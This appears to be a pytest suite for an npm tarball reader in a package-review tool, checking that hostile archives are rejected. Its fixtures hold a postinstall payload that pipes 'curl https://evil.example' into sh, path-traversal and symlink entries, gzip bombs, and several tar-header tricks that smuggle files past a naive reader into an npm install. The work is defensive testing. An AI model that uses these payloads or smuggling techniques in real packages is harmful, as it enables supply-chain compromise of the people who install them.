"""The safe tarball reader: real npm tarballs read exactly; every hostile archive is rejected, never a crash."""

from __future__ import annotations

import gzip
import random
import resource
import tarfile
import zlib
from pathlib import Path

import pytest

from gatekeeper._internal.tarball import MAX_META_BYTES, FileEntry, Package, json_key_lines, read_package
from gatekeeper.diffing import diff_packages
from gatekeeper.trust.policy import LimitsPolicy, Policy
from tests._support.tarballs import Entry, fixture, gz, make_tgz, members, package_json, tar_bytes

LIMITS = LimitsPolicy()
PKG = Entry("package/package.json", package_json().encode())


def read(data: bytes, **limits: int):
    return read_package(data, LimitsPolicy(**limits) if limits else LIMITS, label="t.tgz")


@pytest.mark.parametrize("name", ["ms-2.1.3", "debug-4.3.5", "semver-7.6.3", "chalk-5.4.0", "esbuild-0.20.2"])
def test_real_tarballs_read_exactly(name: str) -> None:
    path = fixture(name)
    pkg = read_package(path, LIMITS)
    assert pkg.problems == [] and pkg.complete and pkg.manifest_error is None
    expected = members(path)
    assert {p: f.data for p, f in pkg.files.items()} == {p: d for p, (d, _) in expected.items()}
    assert {p: f.mode for p, f in pkg.files.items()} == {p: m & 0o7777 for p, (_, m) in expected.items()}
    assert f"{pkg.name}-{pkg.version}" == name
    assert pkg.top_folder == "package"
    assert pkg.compressed_size == path.stat().st_size


def test_same_bytes_from_path_and_from_memory() -> None:
    path = fixture("semver-7.6.3")
    a, b = read_package(path, LIMITS), read_package(path.read_bytes(), LIMITS)
    assert a.files == b.files and a.manifest == b.manifest


def test_any_single_top_folder_is_accepted_as_npm_strips_it(tmp_path: Path) -> None:
    tgz = make_tgz({"package.json": package_json(), "lib/a.js": "x"}, tmp_path / "a.tgz", top="node-demo-1.0.0")
    pkg = read_package(tgz, LIMITS)
    assert pkg.problems == [] and pkg.top_folder == "node-demo-1.0.0"
    assert set(pkg.files) == {"package.json", "lib/a.js"} and pkg.name == "demo"


def test_components_after_the_top_folder_are_normalised_as_npm_resolves_them() -> None:
    pkg = read(gz(tar_bytes([Entry("package//package.json", package_json().encode()), Entry("package/./a.js", b"1")])))
    assert pkg.problems == [] and set(pkg.files) == {"package.json", "a.js"}


def test_a_leading_dot_slash_is_the_top_folder_as_npm_strips_it() -> None:
    """node-tar strips the first component of `./package/package.json`, which is `.`: npm installs the file at
    `package/package.json`, so the reader maps it there too (and the package has no manifest)."""
    pkg = read(gz(tar_bytes([Entry("./package/package.json", package_json().encode()), Entry("./package/a.js", b"1")])))
    assert pkg.problems == [] and pkg.top_folder == "." and set(pkg.files) == {"package/package.json", "package/a.js"}
    assert pkg.manifest_error is not None


def test_uncompressed_tar_is_accepted_like_pacote() -> None:
    pkg = read(tar_bytes([PKG]))
    assert pkg.problems == [] and pkg.name == "demo"


def test_pax_long_paths_and_ustar_prefix() -> None:
    long = "package/" + "/".join(["d" * 40] * 5) + "/f.js"
    pkg = read(gz(tar_bytes([PKG, Entry(long, b"pax")])))
    pkg2 = read(gz(tar_bytes([PKG, Entry(long, b"ustar")], fmt=tarfile.USTAR_FORMAT)))
    gnu = read(gz(tar_bytes([PKG, Entry(long, b"gnu")], fmt=tarfile.GNU_FORMAT)))
    rel = long.split("/", 1)[1]
    assert pkg.files[rel].data == b"pax" and pkg2.files[rel].data == b"ustar" and gnu.files[rel].data == b"gnu"
    assert not pkg.problems and not pkg2.problems and not gnu.problems


def test_archive_without_end_blocks_is_accepted() -> None:
    assert read(gz(tar_bytes([PKG], end=False))).problems == []


def test_file_beside_the_top_folder_is_reported_not_set_aside() -> None:
    pkg = read(gz(tar_bytes([Entry("README", b"x"), PKG])))
    assert pkg.unsafe and "at the root of the archive" in pkg.problems[0], pkg.problems
    assert "README" not in pkg.files and set(pkg.files) == {"package.json"}


# ------------------------------------------------------------------ hostile archives


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        (Entry("/etc/passwd", b"x"), "absolute path"),
        (Entry("/package/a.js", b"x"), "absolute path"),
        (Entry("C:/package/a.js", b"x"), "absolute path"),
        (Entry("package/../../evil.js", b"x"), "climbs out of the package"),
        (Entry("package/lib/..\\..\\evil.js", b"x"), "climbs out of the package"),
        (Entry("package/link", type=tarfile.SYMTYPE, linkname="/etc/passwd"), "symlink"),
        (Entry("package/hard", type=tarfile.LNKTYPE, linkname="package/package.json"), "hardlink"),
        (Entry("package/dev", type=tarfile.CHRTYPE), "character device"),
        (Entry("package/blk", type=tarfile.BLKTYPE), "block device"),
        (Entry("package/fifo", type=tarfile.FIFOTYPE), "FIFO"),
        (Entry("package/sparse", type=tarfile.GNUTYPE_SPARSE), "unsupported tar type"),
        (Entry("other/a.js", b"x"), "outside the top folder"),
    ],
)
def test_hostile_entries_are_rejected(entry: Entry, expected: str) -> None:
    pkg = read(gz(tar_bytes([PKG, entry], fmt=tarfile.GNU_FORMAT if entry.type == b"S" else tarfile.PAX_FORMAT)))
    assert pkg.unsafe
    assert any(expected in p for p in pkg.problems), pkg.problems
    assert all(".." not in p and not p.startswith("/") for p in pkg.files)


@pytest.mark.parametrize(
    ("second", "expected"),
    [
        ("package/a.js", "twice"),
        ("./package/a.js", "outside the top folder"),  # npm installs it at package/a.js
        ("package//a.js", "twice"),
        ("package/A.JS", "name the same file"),  # collides on case-insensitive file systems
        ("package/a.js/b.js", "both as a file and as a folder"),
        ("package/a.js.", "name the same file"),  # Windows drops trailing dots and spaces
        ("package/a.js .", "name the same file"),
        ("package/lib./../a.js", "climbs out"),
    ],
)
def test_duplicates_after_normalisation_are_rejected(second: str, expected: str) -> None:
    pkg = read(gz(tar_bytes([PKG, Entry("package/a.js", b"first"), Entry(second, b"second")])))
    assert any(expected in p for p in pkg.problems), pkg.problems
    assert pkg.files["a.js"].data == (b"second" if second in ("package/a.js", "package//a.js") else b"first")


def test_trailing_dot_twin_folders_collide() -> None:
    pkg = read(gz(tar_bytes([PKG, Entry("package/lib/x.js", b"1"), Entry("package/lib./x.js", b"2")])))
    assert any("name the same file" in p for p in pkg.problems), pkg.problems


@pytest.mark.parametrize(
    ("name", "expected"),
    [("package/lib\\x.js", "backslash"), ("package/a:b.js", "colon"), ("package/x:stream", "colon")],
)
def test_names_windows_reads_differently_are_rejected(name: str, expected: str) -> None:
    pkg = read(gz(tar_bytes([PKG, Entry(name, b"x")])))
    assert any(expected in p for p in pkg.problems), pkg.problems


def test_unicode_normalisation_duplicates_are_rejected() -> None:
    nfc, nfd = "package/caf\u00e9.js", "package/cafe\u0301.js"
    pkg = read(gz(tar_bytes([PKG, Entry(nfc, b"1"), Entry(nfd, b"2")])))
    assert any("name the same file" in p for p in pkg.problems)


def test_too_many_entries() -> None:
    pkg = read(gz(tar_bytes([PKG] + [Entry(f"package/f{i}", b"x") for i in range(20)])), max_entries=10)
    assert not pkg.complete and any("more than 10 entries" in p for p in pkg.problems)


def test_single_file_too_large_is_rejected_before_reading() -> None:
    pkg = read(gz(tar_bytes([PKG, Entry("package/big.bin", b"\0" * 5000)])), max_file_bytes=4096)
    assert not pkg.complete and any("5000-byte file" in p and "max-file-bytes" in p for p in pkg.problems)
    assert "big.bin" not in pkg.files


def test_total_unpacked_size_limit() -> None:
    entries = [PKG] + [Entry(f"package/f{i}", b"y" * 1000) for i in range(10)]
    pkg = read(gz(tar_bytes(entries)), max_unpacked_bytes=5000)
    assert any("max-unpacked-bytes=5000" in p for p in pkg.problems)


def test_path_depth_limit() -> None:
    deep = "package/" + "d/" * 6 + "f.js"
    assert any(
        "max-path-depth=5" in p for p in read(gz(tar_bytes([PKG, Entry(deep, b"x")])), max_path_depth=5).problems
    )
    assert read(gz(tar_bytes([PKG, Entry(deep, b"x")])), max_path_depth=7).problems == []


def test_compressed_size_limit_checked_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "big.tgz"
    path.write_bytes(gz(tar_bytes([PKG, Entry("package/x", bytes(range(256)) * 64)])))
    pkg = read_package(path, LimitsPolicy(max_compressed_bytes=100))
    assert not pkg.complete and pkg.files == {}
    assert any("max-compressed-bytes=100" in p for p in pkg.problems)


def test_gzip_bomb_is_stopped_without_inflating_it() -> None:
    # 256 MiB of zeros compresses to ~250 kB; the header declares it, so it is refused unread.
    header = tar_bytes([Entry("package/bomb", b"")])[:512]
    info = tarfile.TarInfo("package/bomb")
    info.size = 256 * 1024 * 1024
    header = info.tobuf(tarfile.USTAR_FORMAT)
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [comp.compress(tar_bytes([PKG], end=False)), comp.compress(header)]
    chunk = bytes(1 << 20)
    parts += [comp.compress(chunk) for _ in range(256)]
    parts.append(comp.flush())
    bomb = b"".join(parts)
    assert len(bomb) < 2 * 1024 * 1024
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    pkg = read(bomb, max_file_bytes=1 << 20)
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert any("max-file-bytes" in p for p in pkg.problems)
    assert grown_mb < 64


def test_metadata_records_are_capped() -> None:
    huge = Entry("package/a.js", b"x", pax={"comment": "z" * (MAX_META_BYTES + 10)})
    pkg = read(gz(tar_bytes([PKG, huge])))
    assert any("metadata record" in p for p in pkg.problems) and not pkg.complete


def test_decompressed_bytes_are_capped_even_without_file_data() -> None:
    # Many pax records (each under the per-record cap) and no file data: the total inflate cap stops it.
    records = [Entry(f"package/f{i}", b"", pax={"comment": "q" * (900 * 1024)}) for i in range(30)]
    pkg = read(gz(tar_bytes([PKG, *records])), max_entries=20, max_unpacked_bytes=1024)
    assert any("gzip bomb" in p for p in pkg.problems), pkg.problems


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"not a tarball at all" * 40, "not a gzip-compressed tar"),
        (gz(tar_bytes([PKG]))[:40], "truncated"),
        (b"\x1f\x8b\x08\x00" + b"\xff" * 200, "corrupt gzip"),
    ],
)
def test_malformed_archives(data: bytes, expected: str) -> None:
    pkg = read(data)
    assert any(expected in p for p in pkg.problems), pkg.problems


def test_bad_header_checksum() -> None:
    raw = bytearray(tar_bytes([PKG, Entry("package/a.js", b"x")]))
    raw[1024 + 10] ^= 0xFF  # the second header (after package.json header + 1 data block)
    pkg = read(gz(bytes(raw)))
    assert any("bad checksum" in p for p in pkg.problems)


def test_truncated_inside_file_data() -> None:
    raw = tar_bytes([PKG, Entry("package/a.js", b"a" * 3000)])
    pkg = read(gz(raw[: 1024 + 512 + 1000]))
    assert any("truncated inside entry" in p for p in pkg.problems) and not pkg.complete


# A file inflated in more than one piece: the reader feeds zlib as much input as the compression ratio seen so far
# says a file needs, so incompressible data after highly compressible data comes back in several pieces.
_TEXT = b"x = 1;\n" * 200_000
_NOISE = random.Random(22).randbytes(3 * 1024 * 1024)


def _noisy(*before: Entry, version: str = "1.0.0") -> Package:
    pkg_json = Entry("package/package.json", package_json(version=version).encode())
    return read(gz(tar_bytes([pkg_json, *before, Entry("package/noise.bin", _NOISE)])))


def test_a_file_inflated_in_pieces_is_read_and_compared_exactly() -> None:
    a = _noisy(Entry("package/a.txt", _TEXT))
    b = _noisy(Entry("package/b.txt", _TEXT[: len(_TEXT) // 10]))
    pa, pb = a.files["noise.bin"]._pieces, b.files["noise.bin"]._pieces
    assert len(pa) > 1 and len(pb) > 1 and [len(p) for p in pa] != [len(p) for p in pb]  # premise: other boundaries
    assert a.files["noise.bin"].same_data(b.files["noise.bin"]) and b.files["noise.bin"].same_data(a.files["noise.bin"])
    whole = FileEntry("noise.bin", _NOISE, 0o644)
    assert whole.same_data(a.files["noise.bin"]) and a.files["noise.bin"].same_data(whole)
    for at in (0, len(pa[0]) - 1, len(pa[0]), len(pb[0]), len(_NOISE) - 1):  # a byte on each side of a boundary
        other = bytearray(_NOISE)
        other[at] ^= 1
        changed = FileEntry("noise.bin", bytes(other), 0o644)
        assert not changed.same_data(a.files["noise.bin"]) and not a.files["noise.bin"].same_data(changed), at
    assert a.files["noise.bin"].size == len(_NOISE) and a.files["noise.bin"].data == _NOISE
    assert a.files["noise.bin"]._pieces == () and a.files["noise.bin"].same_data(b.files["noise.bin"])


def test_the_diff_copies_no_file_the_release_did_not_change() -> None:
    """Unchanged files are compared where zlib left them: the diff joins no piece of them (speed: bench/)."""
    old = _noisy(Entry("package/a.txt", _TEXT))
    new = _noisy(Entry("package/a.txt", _TEXT), Entry("package/b.js", b"module.exports = 2;\n"), version="1.0.1")
    result = diff_packages(old, new, Policy())
    assert [(c.path, c.status) for c in result.files] == [("b.js", "added"), ("package.json", "changed")]
    assert len(old.files["noise.bin"]._pieces) > 1 and len(new.files["noise.bin"]._pieces) > 1


def test_unreadable_path_is_a_problem(tmp_path: Path) -> None:
    pkg = read_package(tmp_path / "missing.tgz", LIMITS)
    assert pkg.unsafe and "cannot be read" in pkg.problems[0]


# ------------------------------------------------------------------ manifest


def test_missing_and_invalid_manifest_are_reported_not_raised() -> None:
    assert "no package.json" in (read(gz(tar_bytes([Entry("package/a.js", b"1")]))).manifest_error or "")
    bad = read(gz(tar_bytes([Entry("package/package.json", b"{nope")])))
    assert "not valid JSON" in (bad.manifest_error or "") and bad.manifest == {}
    arr = read(gz(tar_bytes([Entry("package/package.json", b"[1]")])))
    assert "not a JSON object" in (arr.manifest_error or "")
    latin = read(gz(tar_bytes([Entry("package/package.json", b'{"name": "\xe9"}')])))
    assert "not UTF-8" in (latin.manifest_error or "")


def test_manifest_with_bom_parses() -> None:
    pkg = read(gz(tar_bytes([Entry("package/package.json", b"\xef\xbb\xbf" + package_json().encode())])))
    assert pkg.manifest_error is None and pkg.name == "demo"


def test_key_lines_of_package_json() -> None:
    text = (
        '{\n  "name": "x",\n  "scripts": {\n    "test": "t",\n    "postinstall": "node i.js"\n  },\n'
        '  "bin": {"a": "b"}\n}'
    )
    lines = json_key_lines(text)
    assert lines[("name",)] == 2 and lines[("scripts",)] == 3 and lines[("scripts", "postinstall")] == 5
    assert lines[("bin", "a")] == 7
    assert json_key_lines("{not json") == {}
    assert json_key_lines('{"a": "x\\"y", "b": [1, {"c": 2}]}') == {("a",): 1, ("b",): 1, ("b", "c"): 1}


def test_line_of_falls_back_to_the_parent_key() -> None:
    pkg = read_package(fixture("esbuild-0.20.2"), LIMITS)
    assert pkg.line_of("scripts", "postinstall") is not None
    assert pkg.line_of("scripts", "nope") == pkg.line_of("scripts")
    assert pkg.line_of("nothing") is None


def _with_field(raw: bytes, offset: int, value: bytes) -> bytes:
    """Rewrite a field of the first header and fix its checksum."""
    hdr = bytearray(raw[:512])
    hdr[offset : offset + len(value)] = value
    hdr[148:156] = b" " * 8
    hdr[148:156] = b"%06o\0 " % sum(hdr)
    return bytes(hdr) + raw[512:]


def test_negative_base256_size_and_garbage_numbers_are_rejected() -> None:
    raw = tar_bytes([Entry("package/package.json", package_json().encode())], fmt=tarfile.USTAR_FORMAT)
    assert read(gz(raw)).problems == []
    negative = read(gz(_with_field(raw, 124, b"\xff" * 12)))
    assert any("negative size" in p for p in negative.problems)
    garbage = read(gz(_with_field(raw, 124, b"9z9z9z9z9z9\0")))
    assert any("bad number field" in p for p in garbage.problems)
    big = read(gz(_with_field(raw, 124, b"\x80" + (1 << 40).to_bytes(11, "big"))), max_file_bytes=1 << 20)
    assert any("max-file-bytes" in p for p in big.problems)


# -- archives npm's extractor (node-tar) reads further than a naive reader (cross-issue attack pass)


def _node_tar_extract(data: bytes, dest: Path) -> set[str]:
    """Extract with npm's own node-tar, as pacote does (`strip: 1`): the files an install would get."""
    import shutil
    import subprocess

    npm, node = shutil.which("npm"), shutil.which("node")
    assert npm and node, "npm and node are required for the tests"
    tar_dir = Path(npm).resolve().parent.parent / "node_modules" / "tar"
    assert tar_dir.is_dir(), f"npm's bundled node-tar not found at {tar_dir}"
    src = dest / "in.tgz"
    src.write_bytes(data)
    out = dest / "out"
    out.mkdir()
    script = f"require({str(tar_dir)!r}).x({{file: {str(src)!r}, cwd: {str(out)!r}, strip: 1, sync: true}})"
    subprocess.run([node, "-e", script], check=True, capture_output=True, timeout=60)
    return {str(p.relative_to(out)) for p in out.rglob("*") if p.is_file()}


_HIDDEN = [
    Entry("package/package.json", package_json(scripts={"postinstall": "node evil.js"}).encode()),
    Entry("package/evil.js", b"require('child_process').exec('curl https://evil.example | sh')\n"),
]


def test_entries_after_a_single_zero_block_are_rejected(tmp_path: Path) -> None:
    """node-tar ends an archive at two zero blocks, not one: what hides after a single one is installed."""
    visible = tar_bytes([PKG, Entry("package/index.js", b"module.exports = 1\n")], end=False)
    data = gz(visible + bytes(512) + tar_bytes(_HIDDEN))
    assert "evil.js" in _node_tar_extract(data, tmp_path), "premise: npm's extractor reads past one zero block"
    pkg = read(data)
    assert pkg.unsafe and "single zero block" in pkg.problems[0], pkg.problems
    # Two zero blocks end the archive for node-tar too: what follows is never installed, and not a problem.
    assert read(gz(tar_bytes([PKG]) + tar_bytes(_HIDDEN))).problems == []


def test_a_second_gzip_member_is_rejected(tmp_path: Path) -> None:
    """Node's zlib inflates concatenated gzip members: a second one carries more tar entries."""
    data = gz(tar_bytes([PKG], end=False)) + gz(tar_bytes(_HIDDEN))
    assert "evil.js" in _node_tar_extract(data, tmp_path), "premise: npm's extractor reads a second gzip member"
    pkg = read(data)
    assert pkg.unsafe and "after the end of its gzip stream" in pkg.problems[0], pkg.problems
    assert read(gz(tar_bytes([PKG])) + bytes(1024)).problems == []  # trailing zero padding is fine


def _raw_header(
    name: bytes, size: int, *, typ: bytes = b"0", prefix: bytes = b"", version: bytes = b"00", size_field: bytes = b""
) -> bytearray:
    h = bytearray(512)
    h[0 : len(name)] = name
    h[100:108], h[108:116], h[116:124] = b"0000644\0", b"0000000\0", b"0000000\0"
    h[124:136] = size_field or b"%011o\0" % size
    h[136:148] = b"00000000000\0"
    h[156:157] = typ
    h[257:263], h[263:265] = b"ustar\0", version
    h[345 : 345 + len(prefix)] = prefix
    return h


def _sealed(h: bytearray, *, signed: bool = False) -> bytes:
    h[148:156] = b" " * 8
    total = sum((b - 256 if b > 127 else b) for b in h) if signed else sum(h)
    h[148:156] = b"%06o\0 " % total
    return bytes(h)


def _raw(name: bytes, data: bytes, **kw) -> bytes:
    signed = kw.pop("signed", False)
    return _sealed(_raw_header(name, len(data), **kw), signed=signed) + data + bytes(-len(data) % 512)


def _pax(records: list[bytes], typ: bytes = b"x") -> bytes:
    body = b""
    for rec in records:  # rec = b"key=value" (may hold anything)
        tail = b" " + rec + b"\n"
        n = len(tail) + len(str(len(tail) + 2))
        n = len(tail) + len(str(n))
        body += str(n).encode() + tail
    return _raw(b"PaxHeader", body, typ=typ)


_INSTALL_OK = b"console.log('benign')\n"
_INSTALL_EVIL = b"require('child_process').exec('curl https://evil.example | sh')\n"
_BASE = _raw(
    b"package/package.json", package_json(scripts={"postinstall": "node install.js"}).encode()
) + _raw(b"package/install.js", _INSTALL_OK)
_EVIL_ENTRY = _raw(b"package/install.js", _INSTALL_EVIL)
_SMUGGLED = {
    "global-pax-path": _pax([b"path=package/CHANGELOG.md"], typ=b"g") + _EVIL_ENTRY,
    "pax-then-gnu-long-name": _pax([b"path=package/CHANGELOG.md"])
    + _raw(b"././@LongLink", b"package/install.js\0", typ=b"L")
    + _raw(b"package/zzz", _INSTALL_EVIL),
    "prefix-without-ustar-version": _raw(b"package/install.js", _INSTALL_EVIL, prefix=b"package", version=b"\0\0"),
    "folder-with-data": _sealed(_raw_header(b"package/lib/", len(_EVIL_ENTRY), typ=b"5")) + _EVIL_ENTRY,
    "entry-without-path": _sealed(_raw_header(b"", len(_EVIL_ENTRY))) + _EVIL_ENTRY,
    "pax-value-with-newline": _pax([b"path=package/CHANGELOG.md\nx"]) + _EVIL_ENTRY,
    "size-with-underscore": _sealed(_raw_header(b"package/README.md", 0, size_field=b"000000_2000\0")) + _EVIL_ENTRY,
    "signed-checksum": _sealed(_raw_header("package/notes-é.md".encode(), len(_EVIL_ENTRY)), signed=True)
    + _EVIL_ENTRY,
}


@pytest.mark.parametrize("vector", sorted(_SMUGGLED))
def test_entries_npm_extracts_differently_are_rejected(vector: str, tmp_path: Path) -> None:
    """Each archive makes npm's node-tar install the evil install.js that a naive reader takes for something else
    (a data file, a folder's data, a skipped header): the reader must see the same, or reject the tarball."""
    data = gz(_BASE + _SMUGGLED[vector] + bytes(1024))
    assert len(data) < 8192
    out = tmp_path / "out" / "install.js"
    _node_tar_extract(data, tmp_path)
    assert out.read_bytes() == _INSTALL_EVIL, "premise: npm's extractor installs the smuggled install.js"
    pkg = read(data)
    assert pkg.unsafe, (sorted(pkg.files), pkg.files["install.js"].data)


# -- entries npm installs at another path than a reader that normalises before it strips (issue 22)


def _npm_install_file(data: bytes, dest: Path) -> Path:
    """`npm install` of the tarball from a file, scripts on, as a consumer does: the installed package's folder."""
    import shutil
    import subprocess

    npm = shutil.which("npm")
    assert npm, "npm is required for the tests"
    consumer = dest / "consumer"
    consumer.mkdir()
    (consumer / "package.json").write_text('{"name": "consumer", "version": "1.0.0"}\n')
    (dest / "demo.tgz").write_bytes(data)
    subprocess.run(
        [npm, "install", str(dest / "demo.tgz"), "--no-audit", "--no-fund", "--registry", "http://127.0.0.1:9/"],
        cwd=consumer,
        check=True,
        capture_output=True,
        timeout=120,
        env={**__import__("os").environ, "npm_config_cache": str(dest / "npm-cache")},
    )
    return consumer / "node_modules" / "demo"


_REVIEWED_INSTALL = b"require('fs').writeFileSync('ran-reviewed', '')\n"
_SMUGGLED_INSTALL = b"require('fs').writeFileSync('ran-smuggled', '')\n"
_REVIEWED = [
    Entry("package/package.json", package_json(scripts={"postinstall": "node install.js"}).encode()),
    Entry("package/install.js", _REVIEWED_INSTALL),
    Entry("package/lib/x.js", b"module.exports = 1\n"),
]


@pytest.mark.parametrize(
    ("smuggled", "installed_as"),
    [
        (Entry("./install.js", _SMUGGLED_INSTALL), "install.js"),
        (
            Entry(
                "./package.json",
                package_json(scripts={"postinstall": "node lib/x.js && node install.js"}).encode(),
            ),
            "package.json",
        ),
        (Entry("./package/lib/x.js", b"evil()\n"), "package/lib/x.js"),
    ],
    ids=["dot-install.js", "dot-package.json", "dot-package-lib"],
)
def test_entries_after_the_reviewed_ones_under_another_first_component_are_rejected(
    smuggled: Entry, installed_as: str, tmp_path: Path
) -> None:
    data = gz(tar_bytes([*_REVIEWED, smuggled]))
    installed = _npm_install_file(data, tmp_path)
    assert (installed / installed_as).read_bytes() == smuggled.data, "premise: npm installs the smuggled entry"
    pkg = read(data)
    assert pkg.unsafe and any("outside the top folder" in p for p in pkg.problems), pkg.problems
    assert any(installed_as in p for p in pkg.problems), pkg.problems


def test_premise_npm_runs_the_postinstall_of_the_last_package_json(tmp_path: Path) -> None:
    hidden = package_json(scripts={"postinstall": "node lib/x.js"}).encode()
    entries = [*_REVIEWED[:2], Entry("package/lib/x.js", _SMUGGLED_INSTALL), Entry("./package.json", hidden)]
    installed = _npm_install_file(gz(tar_bytes(entries)), tmp_path)
    assert (installed / "ran-smuggled").exists() and not (installed / "ran-reviewed").exists()
    # Under the top folder too: two package.json entries are one file for npm, which reads the last.
    pkg = read(gz(tar_bytes([*_REVIEWED, Entry("package/package.json", hidden)])))
    assert any("package.json" in p and "twice" in p for p in pkg.problems), pkg.problems
    assert pkg.manifest["scripts"] == {"postinstall": "node lib/x.js"}


# Red team over the reader rewrite: deflate streams shaped to game the ratio-sized input steps. An empty stored
# block (5 input bytes, no output) is valid deflate that zlib and Node's zlib skip; runs of them make a `decompress`
# call consume input without returning anything, and front-loaded runs make the ratio seen so far huge.
_EMPTY_STORED = b"\x00\x00\x00\xff\xff"


def _stored(data: bytes, final: bool = False) -> bytes:
    return bytes([int(final)]) + len(data).to_bytes(2, "little") + (0xFFFF ^ len(data)).to_bytes(2, "little") + data


def _gz_blocks(raw: bytes, cuts: list[int], pad: int, front: int) -> bytes:
    """`raw` gzipped as stored blocks split at `cuts`, `pad` empty blocks after each, `front` before the first."""
    body = bytearray(_EMPTY_STORED * front)
    start = 0
    for end in [*cuts, len(raw)]:
        for i in range(start, end, 65535):
            body += _stored(raw[i : min(end, i + 65535)])
        body += _EMPTY_STORED * pad
        start = end
    body += _stored(b"", final=True)
    trailer = zlib.crc32(raw).to_bytes(4, "little") + (len(raw) & 0xFFFFFFFF).to_bytes(4, "little")
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + bytes(body) + trailer


def test_ratio_gaming_deflate_structures_read_exactly() -> None:
    rnd = random.Random(2222)
    files = {f"package/f{i}.bin": rnd.randbytes(rnd.choice([1, 511, 512, 513, 70_000])) for i in range(12)}
    entries = [Entry("package/package.json", package_json().encode())]
    entries += [Entry(n, d) for n, d in files.items()]
    raw = tar_bytes(entries)
    one = _gz_blocks(raw, sorted(rnd.sample(range(1, len(raw)), 400)), pad=900, front=0)
    other = _gz_blocks(raw, sorted(rnd.sample(range(1, len(raw)), 50)), pad=3, front=400_000)
    assert gzip.decompress(one) == gzip.decompress(other) == raw  # valid gzip, the same tar
    a, b = read(one), read(other)
    assert not a.problems and not b.problems and a.complete and b.complete
    assert any(len(f._pieces) > 1 for f in a.files.values())  # what this test is about: files in pieces
    # a flipped last byte is seen whatever the piece split (compared before anything joins the pieces)
    flipped = tar_bytes(
        [*entries[:-1], Entry(entries[-1].name, entries[-1].data[:-1] + bytes([entries[-1].data[-1] ^ 1]))]
    )
    c = read(_gz_blocks(flipped, sorted(rnd.sample(range(1, len(flipped)), 300)), pad=900, front=0))
    last = entries[-1].name.removeprefix("package/")
    assert not c.files[last].same_data(a.files[last]) and not a.files[last].same_data(c.files[last])
    for name, data in files.items():
        rel = name.removeprefix("package/")
        assert a.files[rel].same_data(b.files[rel]) and b.files[rel].same_data(a.files[rel])
        assert a.files[rel] == b.files[rel]
        assert a.files[rel].data == data and b.files[rel].data == data
